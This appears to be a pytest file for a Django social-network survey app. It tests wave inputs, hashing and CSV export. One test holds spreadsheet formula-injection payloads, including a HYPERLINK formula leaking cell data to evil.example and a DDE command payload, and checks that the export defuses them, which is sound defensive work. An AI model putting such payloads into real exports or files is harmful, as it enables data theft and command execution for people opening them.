"""A wave's rows become the core's inputs exactly as worked out by hand, and export as files."""

from __future__ import annotations

import csv

import pytest
from django.utils import timezone
from web.builders import submit

from placelab.core.errors import InputError, PlacelabError
from placelab.core.study import load, read_study
from placelab.web.studies.models import (
    Answer,
    Invitation,
    Nomination,
    Participant,
    Wave,
)
from placelab.web.studies.selectors.analysis_inputs import (
    outsider_id,
    wave_export,
    wave_inputs,
    wave_inputs_hash,
    wave_tables,
)

# --- the inputs, worked out by hand ---------------------------------------------------------


@pytest.fixture
def small_wave(study, wave) -> Wave:
    """Three networks; p01, p02 and p05 submitted, p03 only started, p04's link revoked, and
    p13 (not invited) named by p05."""
    study.networks = ["work", "innovation", "expert"]
    study.save()
    Participant.objects.create(
        study=study, key="p13", name="Lu Ma", sector="health", layer="frontline"
    )
    Invitation.objects.filter(wave=wave, participant__key="p04").update(revoked=timezone.now())
    submit(wave, "p01", [("work", "p02", 3), ("work", "p05", None),
                         ("innovation", "  Øyvind   Dahl ", None)],
           {"latent_pockets": "4", "latent_no_growth": "dk"})  # fmt: skip
    submit(wave, "p02", [("work", "p01", 2), ("innovation", "øyvind dahl", 1)],
           {"latent_pockets": "2"})  # fmt: skip
    submit(wave, "p05", [("expert", "p13", None), ("social", "p01", 5)])
    submit(wave, "p03", [("work", "p04", 4)], {"latent_pockets": "5"}, submitted=False)
    return wave


def test_people_are_the_invited_and_the_named_with_responded_from_submissions(small_wave):
    people = wave_inputs(small_wave).data.people
    expected = ["p01", "p02", "p03", "p05", "p06", "p07", "p08", "p09", "p10", "p11", "p12", "p13"]
    assert list(people.index) == expected  # p04's link was revoked; p13 was named
    assert people.index[people["responded"]].tolist() == ["p01", "p02", "p05"]
    assert people.loc["p13"].to_dict() == {
        "name": "Lu Ma", "organisation": "", "sector": "health", "layer": "frontline",
        "seniority": "", "responded": False,
    }  # fmt: skip
    assert people.loc["p05", "name"] == "Zoë Ångström"
    assert people.loc["p05", "organisation"] == "School A"


def test_ties_are_the_submitted_nominations_with_weights_and_outsiders(small_wave):
    data = wave_inputs(small_wave).data
    assert data.networks == ("work", "innovation", "expert")
    ties = [tuple(t) for t in data.ties.itertuples(index=False)]
    # p03 did not submit; p05's "social" tie is in a network the study no longer asks.
    assert ties == [
        ("p01", "p02", "work", 3.0),
        ("p01", "p05", "work", 1.0),
        ("p02", "p01", "work", 2.0),
        ("p05", "p13", "expert", 1.0),
    ]
    outside = [tuple(t) for t in data.outside_ties.itertuples(index=False)]
    assert outside == [
        ("p01", "outside:øyvind dahl", "innovation", 1.0),
        ("p02", "outside:øyvind dahl", "innovation", 1.0),
    ]


def test_an_outsider_named_twice_in_different_spacing_and_case_is_one_person():
    assert outsider_id("  Øyvind   Dahl ") == outsider_id("øyvind DAHL") == "outside:øyvind dahl"


def test_answers_are_those_of_submitted_responses(small_wave):
    answers = wave_inputs(small_wave).answers
    assert answers.respondents == ("p01", "p02")
    assert answers.values.loc["p01", "latent_pockets"] == 4.0
    assert answers.values.loc["p02", "latent_pockets"] == 2.0
    assert bool(answers.dont_know.loc["p01", "latent_no_growth"])


def test_answers_to_a_group_the_study_switched_off_are_ignored(small_wave):
    small_wave.study.excluded_groups = ["lifecycle"]
    small_wave.study.save()
    answers = wave_inputs(Wave.objects.get(pk=small_wave.pk)).answers
    assert "latent_pockets" not in answers.values.columns
    assert answers.ignored == 3


def test_study_attributes_become_columns(small_wave):
    small_wave.study.attributes = [{"key": "years_in_post", "label": "Years in post?"}]
    small_wave.study.save()
    Participant.objects.filter(key="p01").update(attributes={"years_in_post": 7})
    people = wave_inputs(Wave.objects.get(pk=small_wave.pk)).data.people
    assert people.loc["p01", "years_in_post"] == "7"
    assert people.loc["p02", "years_in_post"] == ""


def test_a_wave_no_one_submitted_cannot_be_analysed(wave):
    submit(wave, "p01", [("work", "p02", None)], submitted=False)
    with pytest.raises(PlacelabError, match="No one has submitted an answer to Wave 1"):
        wave_inputs(wave)
    assert wave_inputs_hash(wave) is None


def test_a_bad_row_is_named_as_in_the_exported_file(small_wave):
    Participant.objects.filter(key="p13").update(layer="")
    with pytest.raises(InputError) as caught:
        wave_inputs(small_wave)
    assert (caught.value.file, caught.value.row, caught.value.column) == ("people.csv", 13, "layer")


def test_the_hash_changes_when_an_answer_changes_and_only_then(small_wave):
    before = wave_inputs_hash(small_wave)
    assert before == wave_inputs_hash(small_wave)
    Answer.objects.filter(response__invitation__participant__key="p02").update(value="3")
    assert wave_inputs_hash(small_wave) != before


def test_the_hash_changes_when_a_tie_changes(small_wave):
    before = wave_inputs_hash(small_wave)
    Nomination.objects.filter(frequency=3).update(frequency=4)
    assert wave_inputs_hash(small_wave) != before


def test_the_export_writes_the_rows_the_analysis_reads(small_wave, tmp_path):
    paths = wave_export(wave=small_wave, folder=tmp_path)
    assert sorted(paths) == ["answers.csv", "people.csv", "ties.csv"]
    ties = (tmp_path / "ties.csv").read_text(encoding="utf-8").splitlines()
    assert ties[0] == "source,target,network,weight"
    assert "p01,outside:øyvind dahl,innovation," in ties
    tables = wave_tables(small_wave)
    with (tmp_path / "people.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows == [cells for _row, cells in tables.people.rows]


ATTACKS = ('=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+SUM(1,2)", "@cmd|' /C calc'!A0")


def test_names_a_spreadsheet_would_run_export_as_text_and_analyse_as_they_were(
    small_wave, tmp_path
):
    for key, name in zip(("p06", "p07", "p08"), ATTACKS, strict=True):
        Participant.objects.filter(study=small_wave.study, key=key).update(name=name)
    paths = wave_export(wave=small_wave, folder=tmp_path)
    with paths["people.csv"].open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    people = load(paths["people.csv"], paths["ties.csv"]).people
    assert [people.loc[key, "name"] for key in ("p06", "p07", "p08")] == list(ATTACKS)


def test_the_inputs_are_what_the_cli_reads_from_the_exported_files(small_wave, tmp_path):
    # The ties are built straight into frames when every check passes: the reference is the
    # CLI's own reading (the core's checks) of the files the wave exports.
    paths = wave_export(wave=small_wave, folder=tmp_path)
    from_files = read_study(
        paths["people.csv"], paths["ties.csv"], networks=small_wave.study.networks
    )
    data = wave_inputs(small_wave).data
    assert data.fingerprint() == from_files.fingerprint()
    for ours, theirs in (
        (data.ties, from_files.ties),
        (data.outside_ties, from_files.outside_ties),
    ):
        assert ours.equals(theirs) and list(ours.dtypes) == list(theirs.dtypes)
    assert data.people.equals(from_files.people) and data.networks == from_files.networks
    assert data.sources == {"people": "people.csv", "ties": "ties.csv"}  # errors name these


def test_a_tie_the_core_refuses_is_named_as_the_cli_names_it(small_wave, tmp_path):
    response = Nomination.objects.filter(response__invitation__participant__key="p02").first()
    p02 = Participant.objects.get(study=small_wave.study, key="p02")
    Nomination.objects.create(response=response.response, network="expert", alter=p02)
    paths = wave_export(wave=small_wave, folder=tmp_path)
    with pytest.raises(InputError) as cli:
        read_study(paths["people.csv"], paths["ties.csv"], networks=small_wave.study.networks)
    with pytest.raises(InputError) as web:
        wave_inputs(small_wave)
    assert str(cli.value).endswith(str(web.value))  # the CLI names the file by its path
    row = paths["ties.csv"].read_text(encoding="utf-8").splitlines().index("p02,p02,expert,") + 1
    assert (web.value.file, web.value.row, web.value.column) == ("ties.csv", row, "target")
